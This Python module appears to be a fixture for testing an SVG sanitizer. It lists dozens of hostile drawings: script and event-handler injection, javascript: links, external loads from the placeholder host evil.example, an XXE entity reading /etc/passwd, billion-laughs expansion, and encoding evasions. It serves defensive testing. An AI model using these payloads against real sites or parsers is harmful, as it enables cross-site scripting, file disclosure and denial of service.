"""Drawings that try to run, move or fetch something. Each is refused by name; none reaches a published site.

EVIL and RUN stand for what they want to reach: neither may be in what is published.
"""

from __future__ import annotations

import base64
import gzip

EVIL = "evil.example"
RUN = "stolen()"
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
HEAD = f'<svg xmlns="http://www.w3.org/2000/svg" {XLINK} viewBox="0 0 9 9" width="9" height="9"'
SHAPE = '<path d="M0 0h9v9z" fill="#123456"/>'
HTML = 'xmlns="http://www.w3.org/1999/xhtml"'


def drawing(inside: str, head: str = HEAD) -> str:
    return f"{head}>{SHAPE}{inside}</svg>"


NESTED = base64.b64encode(drawing(f"<script>{RUN}</script>").encode()).decode()

INSIDE: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f'<script href="https://{EVIL}/x.js"/>',
    "script with xlink": f'<script xlink:href="https://{EVIL}/x.js"/>',
    "script in CDATA": f"<script><![CDATA[{RUN}]]></script>",
    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "script with a prefix": f'<x:script xmlns:x="http://www.w3.org/2000/svg">{RUN}</x:script>',
    "script of HTML": f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{RUN}</h:script>',
    "script in a deep group": f"<g><g><defs><g><script>{RUN}</script></g></defs></g></g>",
    "script in metadata": f"<metadata><script>{RUN}</script></metadata>",
    "script in a title": f"<title><script>{RUN}</script></title>",
    "onload": f'<g onload="{RUN}"><path d="M0 0"/></g>',
    "onclick": f'<path d="M0 0" onclick="{RUN}"/>',
    "ONLOAD": f'<path d="M0 0" ONLOAD="{RUN}"/>',
    "onbegin": f'<animate attributeName="x" onbegin="{RUN}"/>',
    "onmouseover on words": f'<text onmouseover="{RUN}">Hello</text>',
    "handler": f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{RUN}</handler>',
    "foreignObject": f'<foreignObject><body {HTML}><img src="x" onerror="{RUN}"/></body></foreignObject>',
    "foreignObject with a frame": f'<foreignObject><iframe {HTML} src="https://{EVIL}/"/></foreignObject>',
    "page without foreignObject": f'<body {HTML} onload="{RUN}"><p>Hello</p></body>',
    "frame": f'<iframe {HTML} srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"/>',
    "MathML": f'<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:{RUN}"><mi>x</mi></math>',
    "video": f'<video {HTML} src="https://{EVIL}/a.mp4"/>',
    "import": f"<style>@import 'https://{EVIL}/x.css';</style>",
    "import with url": f"<style>@import url(https://{EVIL}/x.css);</style>",
    "import in capitals": f"<style>@IMPORT url(https://{EVIL}/x.css);</style>",
    "import written with escapes": f"<style>@\\69mport 'https://{EVIL}/x.css';</style>",
    "import in CDATA": f"<style><![CDATA[@import 'https://{EVIL}/x.css';]]></style>",
    "import in a style of HTML": f"<style {HTML}>@import 'https://{EVIL}/x.css';</style>",
    "url in a sheet": f"<style>path{{fill:url(https://{EVIL}/a.svg#a)}}</style>",
    "url in a media rule": f"<style>@media screen{{path{{fill:url(//{EVIL}/a.svg#a)}}}}</style>",
    "font from elsewhere": f"<style>@font-face{{font-family:x;src:url(https://{EVIL}/x.woff)}}</style>",
    "image-set": f'<style>svg{{background:image-set("https://{EVIL}/a.png" 1x)}}</style>',
    "keyframes": f"<style>@keyframes x{{to{{background:url(https://{EVIL}/a.png)}}}}</style>",
    "url in style": f'<path d="M0 0" style="background:url(https://{EVIL}/a)"/>',
    "url with escapes": f'<path d="M0 0" style="fill:\\75rl(https://{EVIL}/a)"/>',
    "url with a comment": f'<path d="M0 0" style="fill:url(/**/https://{EVIL}/a)"/>',
    "url in quotation marks": f'<path d="M0 0" style="fill:url(\'https://{EVIL}/a\')"/>',
    "url in fill": f'<path d="M0 0" fill="url(https://{EVIL}/#a)"/>',
    "URL in fill": f'<path d="M0 0" fill="URL( //{EVIL}/#a )"/>',
    "url in a filter": f'<path d="M0 0" filter="url(https://{EVIL}/f.svg#f)"/>',
    "url in a clip path": f'<path d="M0 0" clip-path="url(https://{EVIL}/f.svg#f)"/>',
    "url in a mask": f'<path d="M0 0" mask="url(&#x68;ttps://{EVIL}/f.svg#f)"/>',
    "url for the mouse": f'<path d="M0 0" style="cursor:url(https://{EVIL}/c.cur),auto"/>',
    "url in a custom property": f'<path d="M0 0" style="--a:url(https://{EVIL}/a);fill:var(--a)"/>',
    "expression": f'<path d="M0 0" style="width:expression({RUN})"/>',
    "use of a file outside": f'<use href="https://{EVIL}/x.svg#a"/>',
    "use of a file beside": "<use href='other.svg#a'/>",
    "use with xlink": f'<use xlink:href="//{EVIL}/x.svg#a"/>',
    "use with another prefix": f'<use xmlns:q="http://www.w3.org/1999/xlink" q:href="https://{EVIL}/x.svg#a"/>',
    "use of data": f'<use href="data:image/svg+xml;base64,{NESTED}#a"/>',
    "use of javascript": f'<use href="javascript:{RUN}"/>',
    "gradient outside": f'<linearGradient id="g" href="https://{EVIL}/x.svg#a"/>',
    "picture outside": f'<image href="https://{EVIL}/x.png"/>',
    "picture that is a drawing": f'<image href="data:image/svg+xml;base64,{NESTED}"/>',
    "picture that says it is a photo": f'<image href="data:image/png;base64,{NESTED}"/>',
    "picture that is a page": f'<image href="data:text/html,&lt;script&gt;{RUN}&lt;/script&gt;"/>',
    "picture in a filter": f'<filter id="f"><feImage href="https://{EVIL}/x.png"/></filter>',
    "src": f'<image src="https://{EVIL}/x.png"/>',
    "link that runs": f'<a href="javascript:{RUN}"><path d="M0 0"/></a>',
    "link that runs, with a tab": f'<a xlink:href="java&#9;script:{RUN}"><path d="M0 0"/></a>',
    "link to elsewhere": f'<a href="https://{EVIL}/"><path d="M0 0"/></a>',
    "link of HTML": f'<link {HTML} rel="stylesheet" href="https://{EVIL}/x.css"/>',
    "base": f'<g xml:base="https://{EVIL}/"><use href="#a"/></g>',
    "animate href": f'<a><animate attributeName="href" to="javascript:{RUN}"/><path d="M0 0"/></a>',
    "animate xlink:href": f'<a><animate attributeName="xlink:href" values="javascript:{RUN};x"/><path d="M0 0"/></a>',
    "set onload": f'<set attributeName="onload" to="{RUN}"/>',
    "animateMotion": '<circle r="1"><animateMotion path="M0 0h9" dur="1s" repeatCount="indefinite"/></circle>',
    "animation in style": '<path d="M0 0" style="animation:x 1s infinite"/>',
    "words fetched": f'<tref href="https://{EVIL}/x.svg#a"/>',
}
"""What stands inside a drawing that is otherwise right."""

LINK = '<a href="&x;"/>'
LAUGHS = "".join(f'<!ENTITY {b} "{f"&{a};" * 9}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
USES = '<g id="u0"><path d="M0 0h1"/></g>' + "".join(
    f'<g id="u{n + 1}">{f"""<use href="#u{n}"/>""" * 10}</g>' for n in range(9)
)

WHOLE: dict[str, bytes] = {
    "onload of the whole": drawing("", f'{HEAD} onload="{RUN}"').encode(),
    "entity": f'<!DOCTYPE svg [<!ENTITY x "{RUN}">]>{drawing("<title>&x;</title>")}'.encode(),
    "entity from a file": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{drawing("<title>&x;</title>")}'.encode(),
    "entity in an attribute": f'<!DOCTYPE svg [<!ENTITY x "javascript:{RUN}">]>{drawing(LINK)}'.encode(),
    "parameter entity": f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://{EVIL}/x.dtd"> %x;]>{drawing("")}'.encode(),
    "attribute by document type": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]>{drawing("")}'.encode(),
    "billion laughs": f'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">{LAUGHS}]>{drawing("<title>&i;</title>")}'.encode(),
    "billion laughs of use": drawing(USES).encode(),
    "stylesheet of the whole": f'<?xml-stylesheet href="https://{EVIL}/x.css"?>{drawing("")}'.encode(),
    "stylesheet that changes it": f'<?xml-stylesheet type="text/xsl" href="#x"?>{drawing(f"<script>{RUN}</script>")}'.encode(),
    "UTF-16": drawing(f"<script>{RUN}</script>").encode("utf-16"),
    "UTF-16 without a mark": f'<?xml version="1.0" encoding="utf-16"?>{drawing(f"<script>{RUN}</script>")}'.encode(
        "utf-16-le"
    ),
    "UTF-7": f'<?xml version="1.0" encoding="utf-7"?>{drawing("+ADw-script+AD4-")}'.encode(),
    "EBCDIC": f'<?xml version="1.0" encoding="cp037"?>{drawing(f"<script>{RUN}</script>")}'.encode("cp037"),
    "latin-1": f'<?xml version="1.0" encoding="iso-8859-1"?>{drawing(f"<script>{RUN}é</script>")}'.encode("latin-1"),
    "gzip": gzip.compress(drawing(f"<script>{RUN}</script>").encode(), mtime=0),
    "a page": f"<html><body><script>{RUN}</script></body></html>".encode(),
    "a page with a drawing in it": f"<!doctype html><script>{RUN}</script><svg></svg>".encode(),
    "a page of XHTML": f"<html {HTML}><script>{RUN}</script></html>".encode(),
    "without a namespace": f'<svg viewBox="0 0 9 9"><script>{RUN}</script></svg>'.encode(),
    "with another namespace": f'<svg xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></svg>'.encode(),
    "not closed": f"{HEAD}><script>{RUN}".encode(),
    "two roots": f"{drawing('')}<script>{RUN}</script>".encode(),
    "nothing": b"",
    "zeros": b"\0" * 100,
    "deep": (HEAD + ">" + "<g>" * 5000 + "</g>" * 5000 + "</svg>").encode(),
    "many": drawing("<g/>" * 30_000).encode(),
    "big": drawing(f"<desc>{'x' * 300_000}</desc>").encode(),
}
"""Files that are not even that."""

HOSTILE: dict[str, bytes] = {name: drawing(inside).encode() for name, inside in INSIDE.items()} | WHOLE
